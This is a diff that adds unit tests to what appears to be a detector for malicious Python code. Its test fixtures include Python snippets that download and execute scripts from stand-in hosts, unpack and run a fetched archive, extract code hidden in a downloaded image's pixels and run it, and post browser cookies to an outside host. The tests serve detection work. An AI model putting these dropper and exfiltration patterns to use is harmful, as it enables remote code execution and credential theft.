@@ -1204,3 +1204,44 @@ fn browser_cookie_stores_are_stored_credentials() {
     let f = facts("import http.cookiejar, requests\ncj = http.cookiejar.MozillaCookieJar('c.txt')\ncj.load()\nrequests.post(\"https://c.example.top/x\", data=str(list(cj)))\n");
     assert!(f.flows.is_empty(), "{:#?}", f.flows);
 }
+
+#[test]
+fn downloads_run_as_code_or_unpacked_and_run_are_droppers() {
+    for src in [
+        "import urllib.request\nurllib.request.urlretrieve('https://d.example.top/s.py', '/tmp/s.py')\nexec(open('/tmp/s.py').read())\n",
+        "import requests\nopen('/tmp/s.py', 'w').write(requests.get('https://d.example.top/s.py').text)\nexec(compile(open('/tmp/s.py').read(), 's', 'exec'))\n",
+        "import requests, zipfile, io, subprocess\nr = requests.get('https://d.example.top/p.zip')\nzipfile.ZipFile(io.BytesIO(r.content)).extractall('/tmp/pk')\nsubprocess.Popen(['/tmp/pk/run.sh'])\n",
+    ] {
+        let f = facts(src);
+        assert_eq!(f.droppers.len(), 1, "{src}\n{:#?}", f.droppers);
+    }
+    // A local archive unpacked and run, or a download only read: no dropper.
+    for src in [
+        "import zipfile, subprocess\nzipfile.ZipFile('bundle.zip').extractall('/tmp/pk')\nsubprocess.Popen(['/tmp/pk/run.sh'])\n",
+        "import urllib.request\nurllib.request.urlretrieve('https://d.example.top/s.json', '/tmp/s.json')\nprint(open('/tmp/s.json').read())\n",
+    ] {
+        let f = facts(src);
+        assert!(f.droppers.is_empty(), "{src}\n{:#?}", f.droppers);
+    }
+}
+
+#[test]
+fn code_hidden_in_downloaded_pixels_is_code_from_the_network() {
+    let f = facts(
+        "import requests\nfrom PIL import Image\nfrom io import BytesIO\nimg = Image.open(BytesIO(requests.get('https://s.example.top/cat.png').content))\nbits = ''.join(str(p[0] & 1) for p in img.getdata())\ncode = bytes(int(bits[i:i+8], 2) for i in range(0, len(bits), 8)).split(b'\\0')[0]\nexec(code.decode())\n",
+    );
+    assert!(
+        f.dynamic_code.iter().any(|d| d.from_network),
+        "{:#?}",
+        f.dynamic_code
+    );
+    // Pixels of a local image run as code are not from the network.
+    let f = facts(
+        "from PIL import Image\nimg = Image.open('cat.png')\nbits = ''.join(str(p[0] & 1) for p in img.getdata())\ncode = bytes(int(bits[i:i+8], 2) for i in range(0, len(bits), 8))\nexec(code.decode())\n",
+    );
+    assert!(
+        !f.dynamic_code.iter().any(|d| d.from_network),
+        "{:#?}",
+        f.dynamic_code
+    );
+}
